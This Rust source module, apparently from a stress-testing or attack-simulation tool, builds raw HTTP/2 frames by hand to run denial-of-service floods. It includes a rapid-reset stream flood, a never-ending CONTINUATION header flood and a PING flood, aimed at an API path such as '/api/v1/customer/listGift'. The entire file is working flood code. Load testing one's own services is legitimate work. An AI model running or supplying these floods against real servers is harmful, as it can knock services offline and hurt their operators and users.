//! Floods of HTTP/2 frames. They are built by hand, because no client library sends them.

use super::crowd::Visit;
use super::slow::until_end;
use std::io;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::time::interval;

/// The start of an HTTP/2 connection: the preface, and empty settings.
const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Opens streams and resets each at once, 100 a second: half of the attackers a hundred together,
/// the others one by one.
pub(super) async fn rapid_reset(visit: Visit) -> io::Result<()> {
    let together = if visit.number.is_multiple_of(2) { 100 } else { 1 };
    let mut streams = (1u32..).step_by(2);
    flood(visit, Duration::from_millis(10) * together, move |out| {
        for stream in streams.by_ref().take(together as usize) {
            let path = format!("/api/v1/customer/listGift?limit=20&minPriceFen={stream}");
            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &request(&path));
            frame(out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
        }
    })
    .await
}

/// Begins a head and continues it without an end, a hundred frames a second.
pub(super) async fn continuation(visit: Visit) -> io::Result<()> {
    let mut begun = false;
    flood(visit, Duration::from_millis(10), move |out| {
        if !begun {
            frame(out, HEADERS, END_STREAM, 1, &request("/"));
            begun = true;
        }
        frame(out, CONTINUATION, 0, 1, &literal("x-more", &"m".repeat(100)));
    })
    .await
}

/// Sends 500 pings a second. Half of the attackers do not read the responses.
pub(super) async fn ping(visit: Visit) -> io::Result<()> {
    flood(visit, Duration::from_millis(20), |out| {
        (0..10).for_each(|_| frame(out, PING, 0, 0, b"whoisit?"))
    })
    .await
}

/// Sends the bytes from `write` at each tick. Half of the attackers read nothing.
async fn flood(
    visit: Visit,
    every: Duration,
    mut write: impl FnMut(&mut Vec<u8>),
) -> io::Result<()> {
    let reads = visit.number % 4 < 2;
    let (mut reading, mut writing) = visit.stream.into_split();
    let send = async {
        writing.write_all(HELLO).await?;
        let mut ticks = interval(every);
        let mut out = Vec::new();
        loop {
            ticks.tick().await;
            out.clear();
            write(&mut out);
            writing.write_all(&out).await?;
        }
    };
    tokio::select! {
        sent = send => sent,
        read = until_end(&mut reading), if reads => read,
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend_from_slice(&[length[1], length[2], length[3], kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The head of a GET in the format of RFC 7541 (HPACK): names from its static table, literal
/// values.
fn request(path: &str) -> Vec<u8> {
    let mut head = vec![0x82, 0x86];
    head.push(0x04);
    text(&mut head, path);
    head.push(0x01);
    text(&mut head, "stress");
    head
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut header = vec![0];
    text(&mut header, name);
    text(&mut header, value);
    header
}

/// A text of less than 127 bytes, without Huffman coding.
fn text(out: &mut Vec<u8>, text: &str) {
    out.push(u8::try_from(text.len()).unwrap_or(0x7e));
    out.extend_from_slice(text.as_bytes());
}
